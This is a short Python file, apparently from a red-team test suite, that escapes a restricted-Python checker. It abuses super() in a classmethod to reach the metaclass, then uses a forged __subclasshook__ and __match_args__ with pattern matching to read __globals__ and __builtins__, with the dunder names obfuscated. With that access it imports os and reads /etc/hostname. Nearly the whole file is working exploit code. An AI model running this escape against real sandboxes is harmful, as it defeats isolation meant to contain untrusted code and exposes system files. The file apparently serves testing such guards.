# family: red team, round 8 (super_in_classmethod_unbound_self)
# own_object trusts any method reached through super() with no arguments. In a classmethod, super() is
# bound to the class, so super().kind is the plain function and its "self" is whatever the tool passes:
# type(self) becomes the class of anything (here the metaclass of a class).
import abc


class Base(abc.ABC):
    def kind(self):
        return type(self)


class Child(Base):
    @classmethod
    def class_of(cls, obj):
        return super().kind(obj)


def metaclass_of_base():
    return Child.class_of(Base)


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    meta = metaclass_of_base()
    probe = meta("Probe", (), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass_of_base().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
